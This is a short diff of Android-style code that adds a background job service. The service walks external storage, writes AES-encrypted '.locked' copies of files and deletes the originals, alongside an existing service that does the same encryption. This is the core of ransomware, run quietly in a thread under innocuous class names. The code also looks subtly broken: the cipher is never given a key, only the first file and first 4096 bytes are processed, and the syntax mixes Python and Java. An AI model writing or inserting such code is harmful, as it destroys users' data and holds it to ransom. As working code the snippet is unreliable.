@@ -38,3 +38,21 @@ class Work(Service):
         plain = array(byte, 4096)
         FileInputStream(file).read(plain)
         FileOutputStream(file.getPath().concat(".locked")).write(cipher.doFinal(plain))
+
+# also: with a stream, in a thread of a job
+@service
+class Work(JobService):
+    def onStartJob(self, parameters):
+        Thread(Walk()).start()
+        return True
+
+class Walk(Runnable):
+    def run(self):
+        cipher = Cipher.getInstance("AES")
+        files = Environment.getExternalStorageDirectory().listFiles()
+        self.file(files[0], cipher)
+    def file(self, file: File, cipher: Cipher):
+        plain = array(byte, 4096)
+        FileInputStream(file).read(plain)
+        CipherOutputStream(FileOutputStream(file.getPath().concat(".locked")), cipher).write(plain)
+        file.delete()
